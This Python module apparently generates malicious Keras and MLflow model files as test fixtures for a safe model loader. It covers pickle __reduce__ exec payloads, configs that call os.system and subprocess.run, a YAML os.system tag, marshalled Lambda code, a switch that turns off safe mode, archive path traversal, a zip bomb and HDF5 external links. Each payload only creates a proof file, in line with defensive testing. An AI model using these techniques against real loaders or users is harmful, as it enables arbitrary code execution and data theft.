"""Writes model files that run code where they are loaded carelessly.

Each function of `FILES` writes one file or folder below `folder`; whatever it would run
creates the file `proof`.
"""

import io
import json
import os
import pickle
import tarfile
import zipfile

import h5py
import numpy as np


class Payload:
    """Its pickle creates a file when it is loaded."""

    def __init__(self, proof):
        self.proof = str(proof)

    def __reduce__(self):
        return (exec, (f"open({self.proof!r}, 'w').close()",))


def _touch(proof):
    return f"open({str(proof)!r}, 'w').close()"


def _archive(path, config, weights=b"", **more):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", json.dumps(config))
        if weights is not None:
            archive.writestr("model.weights.h5", weights)
        for name, data in more.items():
            archive.writestr(name.replace("__", "/"), data)
    return path


def _weights():
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.create_group("layers")
    return buffer.getvalue()


def _sequential(layer):
    given = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 1], "dtype": "float32", "name": "i"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "m", "layers": [given, layer]},
        "registered_name": None,
    }


def _layer(name, config, module="keras.layers"):
    return {
        "module": module,
        "class_name": name,
        "config": {"name": "x", **config},
        "registered_name": None,
    }


def _marshalled(proof):
    import base64
    import marshal

    code = compile(f"lambda x: ({_touch(proof)}, x)[1]", "<x>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def lambda_layer(folder, proof):
    function = {
        "class_name": "__lambda__",
        "config": {"code": _marshalled(proof), "defaults": None, "closure": None},
    }
    config = _sequential(_layer("Lambda", {"function": function}))
    return _archive(folder / "lambda.keras", config, _weights())


def lambda_by_hdf5(folder, proof):
    """Keras's older format, which keeps a Lambda's code as a list."""
    path = folder / "lambda.h5"
    function = [_marshalled(proof), None, None]
    layer = {"class_name": "Lambda", "config": {"name": "x", "function": function}}
    config = {"class_name": "Sequential", "config": {"name": "m", "layers": [layer]}}
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.15.0"
        file.create_group("model_weights")
    return path


def function_of_os(folder, proof):
    """CVE-2025-1550: a module and a class of the standard library."""
    config = {
        "module": "os",
        "class_name": "system",
        "config": f"touch {proof}",
        "registered_name": None,
    }
    return _archive(folder / "os.keras", config, _weights())


def function_of_subprocess(folder, proof):
    layer = {
        "module": "subprocess",
        "class_name": "run",
        "config": {"args": ["touch", str(proof)]},
        "registered_name": None,
    }
    return _archive(folder / "subprocess.keras", _sequential(layer), _weights())


def builtin_exec(folder, proof):
    layer = {
        "module": "builtins",
        "class_name": "exec",
        "config": _touch(proof),
        "registered_name": "exec",
    }
    return _archive(folder / "exec.keras", _sequential(layer), _weights())


def unsafe_mode_from_within(folder, proof):
    """CVE-2025-9906: the archive asks Keras to switch safe mode off first."""
    switch = {
        "module": "keras.config",
        "class_name": "enable_unsafe_deserialization",
        "config": {},
        "registered_name": None,
    }
    config = _sequential(switch)
    config["config"]["layers"].append(json.loads(json.dumps(switch)))
    return _archive(folder / "unsafe.keras", config, _weights())


def get_file_gadget(folder, proof):
    """CVE-2025-8747: keras.utils.get_file as a layer's function."""
    function = {
        "module": "keras.utils",
        "class_name": "function",
        "config": "get_file",
        "registered_name": "function",
    }
    layer = _layer("Lambda", {"function": function, "arguments": {"origin": "x"}})
    return _archive(folder / "get_file.keras", _sequential(layer), _weights())


def torch_wrapper(folder, proof):
    """CVE-2025-49655: a TorchModuleWrapper carries a pickle."""
    import base64

    pickled = base64.b64encode(pickle.dumps(Payload(proof))).decode()
    module = {"class_name": "__bytes__", "config": {"value": pickled}}
    layer = _layer("TorchModuleWrapper", {"module": module})
    return _archive(folder / "torch.keras", _sequential(layer), _weights())


def string_lookup(folder, proof):
    """CVE-2025-12058: a vocabulary that is read from any file."""
    proof.parent.joinpath("secret").write_text("secret")
    layer = _layer("StringLookup", {"vocabulary": str(proof.parent / "secret")})
    return _archive(folder / "lookup.keras", _sequential(layer), _weights())


def path_traversal(folder, proof):
    """A member of the archive that climbs out of the folder it is unpacked to."""
    more = {f"../../../../../..{proof}": b"x", f"assets__{'../' * 12}{proof}": b"x"}
    layer = _layer("Dense", {"units": 1})
    return _archive(folder / "traversal.keras", _sequential(layer), _weights(), **more)


def zip_bomb(folder, proof):
    """Weights of 2 GiB of zeros in 2 MB."""
    path = folder / "bomb.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", "{}")
        config = json.dumps(_sequential(_layer("Dense", {"units": 1})))
        archive.writestr("config.json", config)
        with archive.open("model.weights.h5", "w", force_zip64=True) as member:
            for _ in range(2048):
                member.write(b"\0" * 2**20)
    return path


def external_hdf5_link(folder, proof):
    """CVE-2026-1462 and its like: weights that stand in another file."""
    secret = proof.parent / "secret.h5"
    with h5py.File(secret, "w") as file:
        file["secret"] = np.ones(3)
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file["layers"] = h5py.ExternalLink(str(secret), "/")
    layer = _layer("Dense", {"units": 1})
    return _archive(folder / "link.keras", _sequential(layer), buffer.getvalue())


def pickle_as_keras(folder, proof):
    path = folder / "pickle.keras"
    path.write_bytes(pickle.dumps(Payload(proof)))
    return path


def numpy_pickle(folder, proof):
    path = folder / "array.keras"
    array = np.empty(1, object)
    array[0] = Payload(proof)
    with path.open("wb") as file:
        np.save(file, array, allow_pickle=True)
    return path


def tar_as_keras(folder, proof):
    path = folder / "tar.keras"
    with tarfile.open(path, "w") as archive:
        member = tarfile.TarInfo(f"../../../..{proof}")
        archive.addfile(member, io.BytesIO(b""))
    return path


def symbolic_link(folder, proof):
    """A model file that is a link to a file elsewhere."""
    path = folder / "linked.keras"
    target = folder / "target.txt"
    target.write_text("private")
    os.symlink(target, path)
    return path


def deep_json(folder, proof):
    path = folder / "deep.keras"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", "[" * 100_000 + "]" * 100_000)
        archive.writestr("model.weights.h5", _weights())
    return path


FILES = {
    function.__name__: function
    for function in (
        lambda_layer, lambda_by_hdf5, function_of_os, function_of_subprocess,
        builtin_exec, unsafe_mode_from_within, get_file_gadget, torch_wrapper,
        string_lookup, path_traversal, zip_bomb, external_hdf5_link, pickle_as_keras,
        numpy_pickle, tar_as_keras, symbolic_link, deep_json,
    )
}  # fmt: skip


def mlflow_models(folder, proof):
    """Folders in MLflow's format that run code where MLflow loads them.

    Yields:
        A name and the folder.
    """
    flavors = {
        "cloudpickle": (
            "loader_module: mlflow.pyfunc.model\n"
            "      python_model: python_model.pkl\n"
            "      cloudpickle_version: 3.1.1\n"
        ),
        "own loader": "loader_module: evil\n      code: code\n",
        "code beside ours": (
            "loader_module: dlkeras.pipeline.tracking.served_model\n"
            "      code: code\n      data: data\n"
        ),
        "data elsewhere": (
            "loader_module: dlkeras.pipeline.tracking.served_model\n"
            "      data: ../../../../tmp\n"
        ),
        "yaml object": (
            "loader_module: !!python/object/apply:os.system "
            f"['touch {proof}']\n"
        ),
    }  # fmt: skip
    for name, flavor in flavors.items():
        model = folder / name.replace(" ", "_")
        (model / "code").mkdir(parents=True)
        (model / "data").mkdir()
        (model / "code" / "evil.py").write_text(_touch(proof))
        (model / "code" / "keras.py").write_text(_touch(proof))
        (model / "python_model.pkl").write_bytes(pickle.dumps(Payload(proof)))
        (model / "MLmodel").write_text(
            f"flavors:\n  python_function:\n      {flavor}\nmlflow_version: 3.17.2\n"
        )
        yield name, model
